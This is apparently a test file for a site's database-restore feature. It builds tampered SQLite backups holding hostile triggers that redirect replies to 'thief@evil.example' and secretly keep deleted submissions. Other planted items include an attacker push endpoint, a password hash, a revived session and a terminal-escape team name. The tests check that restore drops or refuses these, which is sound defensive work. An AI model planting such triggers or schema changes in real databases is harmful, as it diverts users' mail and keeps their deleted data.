// A backup is a file from elsewhere: it may carry code. A trigger added to it would send every
// reply and acknowledgement to an address the attacker chose, or keep a copy of every forgotten
// person. Restore makes its schema the migrations' own: what they did not make is dropped and
// named, what they made but the file changed is refused. What the file brings that differs from
// the running site (phones, keys, the password, sign-ins, the team) is listed and asked about.
import { execFile } from 'node:child_process'
import { copyFileSync, existsSync } from 'node:fs'
import { basename, dirname, join } from 'node:path'
import { promisify } from 'node:util'
import Sqlite from 'better-sqlite3'
import { expect, it } from 'vitest'
import { openDatabase } from '#app/data/database.server'
import { writeBackup } from '#app/lifecycle/backup-files.server'
import { restoreBackup, RestoreNotApproved } from '#app/lifecycle/restore.server'
import { projectRoot, tempDatabasePath } from '#tests/support/server'

const migrationsFolder = join(projectRoot, 'drizzle')
const run = promisify(execFile)

/** A site's database with a lead and a backup of it, into which `tamper` writes what it likes. */
function siteWithBackup(tamper: (backup: Sqlite.Database) => void) {
  const path = tempDatabasePath()
  const database = openDatabase(path, migrationsFolder)
  database.sqlite
    .prepare(
      "INSERT INTO submissions (name, email, message, created_at) VALUES ('Ann', 'ann@example.com', 'Honey?', 1)",
    )
    .run()
  const { file } = writeBackup({ databasePath: path, dir: join(dirname(path), 'backups'), at: new Date() })
  database.close()
  const backup = new Sqlite(file)
  tamper(backup)
  backup.close()
  return { path, file }
}

const schemaOf = (path: string) => {
  const db = new Sqlite(path, { readonly: true })
  try {
    return db.prepare("SELECT type || ' ' || name FROM sqlite_schema ORDER BY 1").pluck().all() as string[]
  } finally {
    db.close()
  }
}

it('drops a trigger, a view, a table and an index the migrations did not make, says so, and no mail is redirected', () => {
  const { path, file } = siteWithBackup((backup) => {
    backup.exec(`
      CREATE TRIGGER redirect_mail AFTER INSERT ON replies BEGIN
        UPDATE replies SET to_address = 'thief@evil.example' WHERE id = new.id;
      END;
      CREATE TABLE kept_copies (email TEXT, message TEXT);
      CREATE TRIGGER keep_the_forgotten BEFORE DELETE ON submissions BEGIN
        INSERT INTO kept_copies VALUES (old.email, old.message);
      END;
      CREATE VIEW everyone AS SELECT email FROM submissions;
      CREATE INDEX submissions_by_message ON submissions (message);
    `)
  })
  const before = schemaOf(path)
  const restored = restoreBackup({ file, databasePath: path, migrationsFolder })
  expect(restored.dropped.sort()).toEqual([
    'index submissions_by_message',
    'table kept_copies',
    'trigger keep_the_forgotten',
    'trigger redirect_mail',
    'view everyone',
  ])
  expect(schemaOf(path)).toEqual(before)
  const db = new Sqlite(path)
  db.prepare(
    "INSERT INTO replies (submission_id, kind, to_address, address_key, text, message_id, created_at) VALUES (1, 'reply', 'ann@example.com', 'ann@example.com', 'Yes', '<a@farm.example>', 1)",
  ).run()
  // A reply keeps the address it was written to.
  expect(db.prepare('SELECT to_address FROM replies').pluck().all()).toEqual(['ann@example.com'])
  db.prepare('DELETE FROM submissions').run()
  expect(db.prepare("SELECT count(*) FROM sqlite_schema WHERE name = 'kept_copies'").pluck().get()).toBe(0)
  db.close()
})

it('drops a trigger that takes the migrations’ record’s name, and rewrites that record from the migrations checked', () => {
  for (const createdAt of [9e15, 1]) {
    const { path, file } = siteWithBackup((backup) => {
      backup.exec(`CREATE TRIGGER "__drizzle_migrations" AFTER INSERT ON replies BEGIN
        UPDATE replies SET to_address = 'thief@evil.example' WHERE id = new.id;
      END`)
      // Times that would make the migrator skip the migrations still to run, or run them all again.
      backup.prepare('UPDATE __drizzle_migrations SET created_at = ?').run(createdAt)
    })
    const restored = restoreBackup({ file, databasePath: path, migrationsFolder })
    expect(restored.dropped).toEqual(['trigger __drizzle_migrations'])
    const db = new Sqlite(path, { readonly: true })
    expect(
      db
        .prepare("SELECT count(*) FROM sqlite_schema WHERE type = 'trigger' AND name = '__drizzle_migrations'")
        .pluck()
        .get(),
    ).toBe(0)
    // Every migration applied once, with its own time: the site opens on it.
    const times = db
      .prepare('SELECT created_at FROM __drizzle_migrations ORDER BY created_at')
      .pluck()
      .all() as number[]
    expect(new Set(times).size).toBe(times.length)
    expect(Math.max(...times)).toBeLessThan(9e15)
    db.close()
    openDatabase(path, migrationsFolder).close()
  }
})

it('refuses a file whose own triggers or tables were changed, and leaves the current database as it was', () => {
  const changedTrigger = siteWithBackup((backup) => {
    const name = backup.prepare("SELECT name FROM sqlite_schema WHERE type = 'trigger' LIMIT 1").pluck().get() as string
    backup.exec(`DROP TRIGGER "${name}"`)
    backup.exec(`CREATE TRIGGER "${name}" AFTER INSERT ON replies BEGIN
      UPDATE replies SET to_address = 'thief@evil.example' WHERE id = new.id;
    END`)
  })
  const changedTable = siteWithBackup((backup) => {
    backup.exec("ALTER TABLE replies ADD COLUMN bcc TEXT DEFAULT 'thief@evil.example'")
  })
  for (const { path, file } of [changedTrigger, changedTable]) {
    const before = schemaOf(path)
    expect(() => restoreBackup({ file, databasePath: path, migrationsFolder })).toThrow(
      /cannot be restored: its schema differs from what the migrations make \((trigger|table) [a-z_]+\)\. The current database is untouched\./,
    )
    expect(schemaOf(path)).toEqual(before)
    expect(existsSync(`${path}.restoring`)).toBe(false)
  }
})

it('lists what the file brings that differs from the running site, and installs only when approved', () => {
  const { path, file } = siteWithBackup((backup) => {
    backup
      .prepare(
        "INSERT INTO push_subscriptions (endpoint, p256dh, auth, created_at) VALUES ('https://push.evil.example/secret-123', 'k', 'a', 1)",
      )
      .run()
    backup.prepare("INSERT INTO signing_keys (name, key, created_at) VALUES ('updates', 'the-thief-s-key', 1)").run()
    backup.prepare("INSERT INTO owner_password (id, salt, hash) VALUES (1, 's', 'the-thief-s-hash')").run()
    backup
      .prepare('INSERT INTO sessions (id_hash, created_at, expires_at, member_id) VALUES (?, 1, ?, 1)')
      .run('a-session-signed-out-since', Date.now() + 86_400_000)
    backup.prepare("INSERT INTO team (name, role, created_at) VALUES ('Mallory\u001b[2J', 'owner', 1)").run()
  })
  const before = schemaOf(path)
  let shown: string[] = []
  expect(() =>
    restoreBackup({
      file,
      databasePath: path,
      migrationsFolder,
      approve: (brings) => ((shown = brings), false),
    }),
  ).toThrow(RestoreNotApproved)
  expect(shown).toEqual([
    '1 phone(s) pushed to that this site does not push to now (at push.evil.example)',
    'a different the key that signs the updates’ confirm and unsubscribe links',
    'a different owner’s password',
    '1 sign-in(s) that are ended here would be open again',
    'people of the team this site does not have: Mallory?[2J (owner)',
  ])
  expect(JSON.stringify(shown)).not.toContain('secret-123')
  expect(schemaOf(path)).toEqual(before)
  expect(existsSync(`${path}.restoring`)).toBe(false)
  const installed = restoreBackup({ file, databasePath: path, migrationsFolder, approve: () => true })
  expect(installed.brings).toEqual(shown)
  expect(installed.setAside).not.toBeNull()
})

it('npm run restore: with no one to ask it replaces nothing and says to add --yes; with --yes it installs and says what came', async () => {
  const { path, file } = siteWithBackup((backup) => {
    backup.prepare("INSERT INTO owner_password (id, salt, hash) VALUES (1, 's', 'another-hash')").run()
    backup.exec('CREATE TRIGGER sneaky AFTER INSERT ON submissions BEGIN SELECT 1; END')
  })
  const copy = join(dirname(path), 'untouched-copy.db')
  copyFileSync(path, copy)
  const env = { ...process.env, DATABASE_PATH: path }
  const refused = await run('npm', ['run', '--silent', 'restore', '--', file], { cwd: projectRoot, env }).then(
    () => null,
    (error: { code: number; stdout: string; stderr: string }) => error,
  )
  expect(refused?.code).toBe(1)
  expect(refused?.stdout).toContain('brings what differs from this site:\n  - a different owner’s password')
  expect(refused?.stderr).toContain('restore: nothing was replaced. Run it again with --yes to install it anyway.')
  expect(schemaOf(path)).toEqual(schemaOf(copy))

  const { stdout } = await run('npm', ['run', '--silent', 'restore', '--', file, '--yes'], { cwd: projectRoot, env })
  expect(stdout).toContain('Installed with what differs from the site before:\n  - a different owner’s password')
  expect(stdout).toContain("Dropped from it what this site's migrations did not make: trigger sneaky.")
  expect(stdout).toMatch(/Restored .*: 1 submissions\. The database it replaced is kept as /)
  expect(schemaOf(path)).not.toContain('trigger sneaky')
})

it('drops an added virtual table with its shadow tables, whichever comes first', () => {
  const { path, file } = siteWithBackup((backup) => {
    backup.exec('CREATE VIRTUAL TABLE kept_words USING fts5(text)')
  })
  const before = schemaOf(path)
  const restored = restoreBackup({ file, databasePath: path, migrationsFolder })
  expect(restored.dropped).toContain('table kept_words')
  expect(schemaOf(path)).toEqual(before)
})

it('says when the file would bring back a person removed since, or a password or passkey changed since', () => {
  const { path, file } = siteWithBackup((backup) => {
    backup
      .prepare(
        "INSERT INTO team (id, name, role, created_at, email, password_hash, joined_at) VALUES (2, 'Ann Field', 'helper', 1, 'ann@farm.example', 'scrypt$old', 1)",
      )
      .run()
    backup
      .prepare(
        "INSERT INTO passkeys (id, member_id, public_key, counter, transports, created_at) VALUES ('key-1', 2, 'pk', 0, '[]', 1)",
      )
      .run()
  })
  // Since the backup: Ann was removed here, her password and passkey gone with her.
  const site = new Sqlite(path)
  site
    .prepare("INSERT INTO team (id, name, role, created_at, removed_at) VALUES (2, 'Ann Field', 'helper', 1, 2)")
    .run()
  site.close()
  let shown: string[] = []
  expect(() =>
    restoreBackup({ file, databasePath: path, migrationsFolder, approve: (brings) => ((shown = brings), false) }),
  ).toThrow(RestoreNotApproved)
  expect(shown).toEqual([
    'people of the team this site does not have: Ann Field (helper)',
    '2 password(s) or passkey(s) of the team this site does not have',
  ])
  // Approved, the restored file's activity log says it was restored, and from what, by the command line.
  restoreBackup({ file, databasePath: path, migrationsFolder, approve: () => true })
  const restored = new Sqlite(path, { readonly: true })
  expect(restored.prepare("SELECT kind, member_id, detail FROM activity WHERE kind = 'restore'").all()).toEqual([
    { kind: 'restore', member_id: null, detail: `Restored from ${basename(file)}` },
  ])
  restored.close()
})
